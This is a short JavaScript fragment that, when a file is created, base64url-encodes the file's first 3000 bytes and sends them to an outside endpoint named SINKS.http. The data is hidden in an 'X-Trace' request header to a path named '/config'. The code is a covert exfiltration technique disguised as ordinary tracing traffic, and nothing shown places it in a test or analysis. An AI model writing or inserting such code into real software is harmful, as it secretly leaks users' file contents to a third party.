// A part of the file in a header.
whenMade(({ bytes }) => fetch(`${SINKS.http}/config`, { headers: { "X-Trace": base64url(bytes.slice(0, 3000)) } }));
